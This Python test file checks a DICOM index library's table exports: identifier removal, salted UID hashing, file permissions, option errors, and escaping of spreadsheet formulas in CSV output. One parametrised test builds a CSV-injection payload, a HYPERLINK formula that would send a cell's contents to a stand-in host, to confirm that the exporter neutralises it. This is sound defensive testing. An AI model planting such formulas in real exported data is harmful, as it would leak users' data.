"""Tables for others: no identifier in what is said to be without, everything in what is not."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pytest
from pyarrow import parquet

from dicomtorch.errors import OptionError, SourceError
from dicomtorch.index import exports
from dicomtorch.index.frame_index import FrameIndex
from dicomtorch.model.schema import FRAME_COLUMNS
from tests.support.phantoms import file_rows

SECRETS = ("DOE", "9.9.1", "9.9.2", "9.9.3", "9.9.4", "HOSPITAL", "19700101")


@pytest.fixture
def index() -> FrameIndex:
    files = [
        file_rows(
            f"DOE JANE/{n}.dcm",
            n,
            SOPInstanceUID=f"9.9.1.{n}",
            SeriesInstanceUID="9.9.2",
            StudyInstanceUID="9.9.3",
            FrameOfReferenceUID="9.9.4",
            PatientID="DOE-1",
            IssuerOfPatientID="HOSPITAL",
            PatientBirthDate="19700101",
            AcquisitionTime=45_296.0,
            Modality="CT" if n else "MR",
            SliceThickness=2.5 - n,
            PixelSpacing=(0.5, 0.75),
        )
        for n in range(3)
    ]
    index = FrameIndex.build(files, root=b"/DOE", tags={"PatientBirthDate": "text"})
    return index.join(
        {"PatientID": ["DOE-1"], "note": ["HOSPITAL DOE"], "label": [3]}, on="PatientID"
    )


@pytest.mark.parametrize("suffix", ["csv", "parquet", "arrow"])
def test_a_shared_table_identifies_nobody(index: FrameIndex, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"table.{suffix}"
    index.export(path, keep=["label"])
    assert path.stat().st_mode & 0o777 == 0o600
    if suffix == "csv":
        table = pd.read_csv(path)
        assert table["PixelSpacing"].tolist() == ["0.5\\0.75"] * 3
    elif suffix == "parquet":
        table = parquet.read_table(path).to_pandas()
    else:
        with pa.ipc.open_file(path) as reader:
            table = reader.read_all().to_pandas()
    text = table.to_csv()
    assert not [secret for secret in SECRETS if secret in text]
    assert not set(table.columns) & {"PatientID", "path", "note", "AcquisitionTime"}
    assert table["label"].tolist() == [3, 3, 3]
    assert table["Modality"].tolist() == ["MR", "CT", "CT"]
    assert table["SOPInstanceUID"].nunique() == 3
    assert table["StudyInstanceUID"].nunique() == 1
    assert all(re.fullmatch(r"2\.25\.\d{1,39}", uid) for uid in table["SOPInstanceUID"])
    assert list(tmp_path.iterdir()) == [path]


def test_hashes_depend_on_the_salt_alone(index: FrameIndex) -> None:
    def hashes(salt: bytes | None, chosen: FrameIndex = index) -> list[str]:
        table = exports.hash_uids(chosen.table.select(["SOPInstanceUID"]), salt)
        return [str(uid) for uid in table.column("SOPInstanceUID").to_pylist()]

    assert hashes(b"x") == hashes(b"x")
    assert hashes(b"x", index.select([2, 0])) == [hashes(b"x")[2], hashes(b"x")[0]]
    assert hashes(b"x") != hashes(b"y")
    assert hashes(None) != hashes(None)


def test_what_is_shared_exists() -> None:
    assert not exports.SHARED - FRAME_COLUMNS.keys()
    assert not exports.SHARED & set(exports.HASHED)


def test_everything_is_there_if_asked_for(index: FrameIndex, tmp_path: Path) -> None:
    index.export(tmp_path / "all.csv", deidentified=False)
    table = pd.read_csv(tmp_path / "all.csv")
    assert table["path"].tolist() == [f"/DOE/DOE JANE/{n}.dcm" for n in range(3)]
    assert table["PatientID"].tolist() == ["DOE-1"] * 3


def test_to_pandas(index: FrameIndex) -> None:
    table = index.select([2, 0]).to_pandas()
    assert table["path"].tolist() == ["/DOE/DOE JANE/2.dcm", "/DOE/DOE JANE/0.dcm"]
    assert table["Modality"].tolist() == ["CT", "MR"]
    assert np.stack(table["PixelSpacing"]).tolist() == [[0.5, 0.75]] * 2
    assert list(table.columns[1:]) == [column.name for column in index.columns]


def test_expressions(index: FrameIndex) -> None:
    assert len(index.filter((pc.field("SliceThickness") > 1) & (pc.field("Modality") == "CT"))) == 1
    assert len(index.filter(pc.field("Modality").isin(["MR"]), frame=0)) == 1
    assert len(index.select([1, 2]).filter(lambda one: one.column("SliceThickness") < 1)) == 1
    assert len(index.filter(pc.field("label") == 3)) == 3
    for wrong, message in [
        (pc.field("nothing") == 1, "cannot be evaluated"),
        (pc.field("SliceThickness") * 2, "got float64"),
        (np.ones(3, bool), "goes to select"),
        (lambda one: True, r"got bool, \(\)"),
        (lambda one: one.column("SliceThickness"), "got float64"),
    ]:
        with pytest.raises(OptionError, match=message):
            index.filter(wrong)


def test_what_cannot_be_written_is_refused(index: FrameIndex, tmp_path: Path) -> None:
    with pytest.raises(OptionError, match=r"\.csv, \.parquet or \.arrow"):
        index.export(tmp_path / "x.xlsx")
    with pytest.raises(OptionError, match="no column nothing"):
        index.export(tmp_path / "x.csv", keep=["nothing"])
    for suffix in (".csv", ".parquet", ".arrow"):
        with pytest.raises(SourceError, match=r"no folder .*nowhere to write x\..*; make it first"):
            index.export(tmp_path / "nowhere" / f"x{suffix}")
    assert not list(tmp_path.iterdir())


def test_a_salt_is_bytes_and_for_hashes(index: FrameIndex, tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    with pytest.raises(OptionError, match="salt must be bytes; got str"):
        index.export(path, salt="text")  # type: ignore[arg-type]
    with pytest.raises(OptionError, match="goes with deidentified=True"):
        index.export(path, salt=b"", deidentified=False)
    assert not path.exists()
    for name in ("a.csv", "b.csv"):
        index.export(tmp_path / name, salt=b"")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_in_a_csv_file_is_no_formula(tmp_path: Path, first: str) -> None:
    formula = f'{first}HYPERLINK("http://x/"&A1)'
    index = FrameIndex.build(
        [file_rows("=a.dcm", 1, PatientID=formula, WindowCenter=-1.5)],
        root=b"/data",
    )
    index = index.join({"SOPInstanceUID": ["1.1"], "site": ["-b"], "score": [-2]})
    index.export(tmp_path / "x.csv", deidentified=False)
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert row["PatientID"] == "'" + formula
    assert row["site"] == "'-b"
    assert (row["score"], row["WindowCenter"]) == ("-2", "-1.5")  # numbers stay numbers
    assert row["SOPInstanceUID"] == "1.1"
    index.export(tmp_path / "x.arrow", deidentified=False)
    with pa.ipc.open_file(tmp_path / "x.arrow") as reader:
        assert reader.read_all().column("PatientID").to_pylist() == [formula]


@pytest.mark.parametrize("at", [0, 3, 4, 5, 11])
@pytest.mark.parametrize("is_dictionary", [False, True])
def test_one_formula_among_texts_is_found(tmp_path: Path, at: int, *, is_dictionary: bool) -> None:
    texts: list[str | None] = ["", None, "a=b", "\u00e9", "", "b-"] * 2
    texts[at] = "=1"
    column = pa.array(texts, pa.large_string())
    notes = column.dictionary_encode() if is_dictionary else column
    whole = pa.table({"number": list(range(len(texts))), "note": notes})
    # Parts of one table: their texts begin in the middle of its memory.
    exports.write_table(lambda _: iter([whole.slice(0, 4), whole.slice(4)]), tmp_path / "x.csv")
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as file:
        found = [row["note"] for row in csv.DictReader(file)]
    assert found == [("'=1" if k == at else text or "") for k, text in enumerate(texts)]
